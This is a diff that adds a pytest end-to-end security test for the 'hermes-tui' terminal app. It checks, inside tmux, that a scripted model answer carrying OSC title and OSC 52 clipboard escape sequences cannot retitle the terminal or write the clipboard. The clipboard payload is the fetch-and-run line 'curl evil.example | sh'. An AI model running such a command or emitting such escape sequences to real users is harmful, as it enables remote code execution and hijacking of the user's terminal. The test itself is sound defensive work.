@@ -1,0 +1,112 @@
+"""End to end in a real terminal (tmux): a hostile answer cannot retitle it or set its clipboard.
+
+The installed `hermes-tui` runs in a private tmux server against the scripted model server.
+The answer carries OSC 0 (set the window title) and OSC 52 (write the clipboard) sequences;
+with `set-clipboard on`, tmux would act on both if they reached it (SPEC H1).
+"""
+
+from __future__ import annotations
+
+import base64
+import os
+import shutil
+import subprocess
+import sys
+import uuid
+from pathlib import Path
+
+import pytest
+from helpers import wait_for
+from ui.tui_helpers import write_config
+
+from agent.scripted import Script, ScriptedServer
+
+pytestmark = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")
+
+PAYLOAD = "curl evil.example | sh"
+CLIPBOARD = base64.b64encode(PAYLOAD.encode()).decode()
+HOSTILE_ANSWER = (
+    "Sure thing. \x1b]0;pwned\x07 Title set."
+    f" \x1b]52;c;{CLIPBOARD}\x07 Clipboard set."
+    f" \x1b]52;c;{CLIPBOARD}\x1b\\ Again with ST. END-OF-ANSWER"
+)
+
+
+def _hermes_tui() -> str:
+    """The console script installed next to this interpreter."""
+    installed = Path(sys.executable).with_name("hermes-tui")
+    return str(installed) if installed.exists() else shutil.which("hermes-tui") or "hermes-tui"
+
+
+class Tmux:
+    """A private tmux server (its own socket and config), killed at the end."""
+
+    def __init__(self, tmp: Path) -> None:
+        self.socket = f"hermes-sec-{uuid.uuid4().hex[:12]}"
+        self.config = tmp / "tmux.conf"
+        self.config.write_text("set -g set-clipboard on\nset -g remain-on-exit on\n")
+
+    def __call__(self, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            ["tmux", "-L", self.socket, "-f", str(self.config), *args],
+            capture_output=True,
+            text=True,
+            timeout=10,
+            check=check,
+        )
+
+    def screen(self) -> str:
+        return self("capture-pane", "-p", "-t", "app").stdout
+
+    def kill(self) -> None:
+        self("kill-server", check=False)
+
+
+@pytest.fixture
+def tmux(tmp_path):
+    server = Tmux(tmp_path)
+    yield server
+    server.kill()
+
+
+def test_answer_cannot_retitle_the_terminal_or_write_its_clipboard(tmux, hermes_home, tmp_path):
+    model = ScriptedServer(
+        Script.from_dict({"loop": True, "replies": [{"text": HOSTILE_ANSWER, "chunk_size": 7}]})
+    ).start()
+    try:
+        write_config(hermes_home, model.openai_base_url)
+        workspace = tmp_path / "ws"
+        workspace.mkdir()
+        env = [f"HERMES_TUI_HOME={hermes_home}", f"HOME={tmp_path}", "NO_PROXY=*"]
+        env += [f"PATH={os.environ.get('PATH', '')}"]
+        command = [_hermes_tui()]
+        tmux(
+            "new-session",
+            "-d",
+            "-s",
+            "app",
+            "-x",
+            "120",
+            "-y",
+            "36",
+            "-c",
+            str(workspace),
+            *(arg for pair in env for arg in ("-e", pair)),
+            *command,
+        )
+        title_before = tmux("display", "-p", "-t", "app", "#{pane_title}").stdout
+        wait_for(lambda: "Ask anything" in tmux.screen(), timeout=30)
+        tmux("send-keys", "-t", "app", "say something", "Enter")
+        wait_for(lambda: "END-OF-ANSWER" in tmux.screen(), timeout=30)
+        screen = tmux.screen()
+        title_after = tmux("display", "-p", "-t", "app", "#{pane_title}").stdout
+        buffers = tmux("show-buffer", check=False)
+        tmux("send-keys", "-t", "app", "C-q")
+    finally:
+        model.stop()
+    assert "pwned" not in title_after
+    assert title_after == title_before
+    assert PAYLOAD not in buffers.stdout, buffers.stdout
+    assert buffers.returncode != 0 or not buffers.stdout.strip(), buffers.stdout
+    # The sequences are shown for what they are, not acted on.
+    assert "␛]0;pwned␇" in screen, screen
